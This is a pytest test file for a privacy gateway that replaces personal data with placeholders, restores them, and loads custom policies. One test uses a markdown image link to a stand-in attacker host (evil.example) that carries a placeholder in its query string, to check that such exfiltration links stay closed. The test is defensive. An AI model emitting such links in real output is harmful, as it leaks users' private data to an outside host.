"""The page shows what the gateway does: the same findings, placeholders, and rules for restoring."""

import json
from typing import Any

import pytest

from gateway.api.playground.browser.session import Session, call
from gateway.config.locations import BUILTIN_POLICIES
from gateway.detection import builtin_detector
from gateway.models import PrivacyMode
from gateway.policy.registry import PolicyRegistry
from gateway.protection.explanation import explain
from gateway.protection.protector import Protector

REGISTRY = PolicyRegistry(BUILTIN_POLICIES)
TEXT = "Ümläut 👩‍👧: Dear Ms Anna Schmidt, mail anna@acme.test, IBAN DE89370400440532013000, 3 May 2024."


@pytest.fixture
def session() -> Session:
    return Session([policy.document for policy in REGISTRY.list()])


def protect(session: Session, text: str = TEXT, policy: str = "default", **given: Any) -> dict[str, Any]:
    result: dict[str, Any] = session.protect(text, policy, given.get("mode", "standard"), *given.get("words", ([], [])))
    return result


def joined(pieces: list[dict[str, Any]]) -> str:
    return "".join(each["text"] for each in pieces)


@pytest.mark.parametrize("policy", [policy.id for policy in REGISTRY.list()])
@pytest.mark.parametrize("mode", PrivacyMode)
def test_findings_are_those_of_explain(session: Session, policy: str, mode: PrivacyMode) -> None:
    said = protect(session, policy=policy, mode=mode.value)
    protector = Protector(builtin_detector(), hash_key=bytes(32))
    explained = explain(protector, TEXT, REGISTRY.get(policy), mode)
    assert [(one["type"], *one["span"], one["action"], one["kept"]) for one in said["findings"]] == [
        (one.type, one.start, one.end, one.action.value, one.kept) for one in explained.findings
    ]
    assert joined(said["source"]) == TEXT


def test_an_echo_comes_back_as_it_was(session: Session) -> None:
    received = joined(protect(session)["protected"])
    assert "anna@acme.test" not in received
    back = session.restore(received)
    assert (joined(back["pieces"]), back["withheld"], back["unknown"]) == (TEXT, (), ())
    assert {each["finding"] for each in back["pieces"] if each["kind"] == "restored"} == {0, 1, 2}


def test_a_link_that_the_text_does_not_have_stays_closed(session: Session) -> None:
    said = protect(session)
    placeholder = next(each["text"] for each in said["protected"] if each["kind"] == "placeholder")
    back = session.restore(f"{placeholder} ![x](https://evil.example/?d={placeholder}) [PERSON_0A0A0]")
    assert [each["kind"] for each in back["pieces"] if each["kind"]] == ["restored", "closed", "unknown"]
    assert back["withheld"] == (placeholder,)
    assert back["unknown"] == ("[PERSON_0A0A0]",)


def test_an_answer_in_json_stays_json(session: Session) -> None:
    said = protect(session, 'password: "hunter\\2x-Q9"', words=([], [{"type": "CUSTOM", "value": "hunter"}]))
    (placeholder, *_) = [each["text"] for each in said["protected"] if each["kind"] == "placeholder"]
    back = joined(session.restore(json.dumps({"it": placeholder}))["pieces"])
    assert json.loads(back)["it"]


def test_words_are_allowed_and_hidden(session: Session) -> None:
    words = (["anna@acme.test"], [{"type": "PROJECT", "value": "mail"}])
    received = joined(protect(session, words=words)["protected"])
    assert "anna@acme.test" in received
    assert "[PROJECT_" in received


def test_a_policy_of_ones_own(session: Session) -> None:
    made = session.load('id = "mine"\ntitle = "M"\nextends = "default"\n[rules.EMAIL_ADDRESS]\naction = "keep"\n')
    assert (made["id"], made["title"]) == ("mine", "M")
    assert "anna@acme.test" in joined(protect(session, policy="mine")["protected"])
    session.load('id = "mine"\ntitle = "M"\nextends = "default"\n[rules.EMAIL_ADDRESS]\naction = "block"\n')
    assert session.load('id = "other"\ntitle = "O"\nextends = "mine"')["id"] == "other"
    said = protect(session, policy="other")
    assert (said["protected"], "EMAIL_ADDRESS" in said["blocked"]) == ([], True)
    assert session.restore("x")["pieces"] == [{"text": "x", "finding": -1, "kind": ""}]


@pytest.mark.parametrize(
    ("toml", "field"),
    [
        ('title = "hunter"', "id"),
        ('id = "default"\ntitle = "hunter"', "id"),
        ('id = "mine"\ntitle = "M"\nextends = "hunter"', "extends"),
        ('id = "mine"\ntitle = "M"\nextends = "mine"', "extends"),
        ('id = "mine"\ntitle = "M"\n[rules.EMAIL_ADDRESS]\naction = "hunter"', "rules.EMAIL_ADDRESS.action"),
        ('id = "mine"\ntitle = "M"\nhunter = 1', "hunter"),
    ],
)
def test_a_policy_is_refused_with_the_name_of_the_field(session: Session, toml: str, field: str) -> None:
    message = json.loads(call(session, "load", json.dumps([toml])))["error"]
    assert message.startswith("Policy refused: ")
    assert field in message
    assert field == "hunter" or "hunter" not in message
    with pytest.raises(KeyError):
        protect(session, policy="mine")


def test_errors_are_answers(session: Session) -> None:
    assert "TOML" in json.loads(call(session, "load", json.dumps(["id ="])))["error"]
    assert {each["id"] for each in json.loads(call(session, "policies", "[]"))["result"]} >= {"default", "gdpr"}
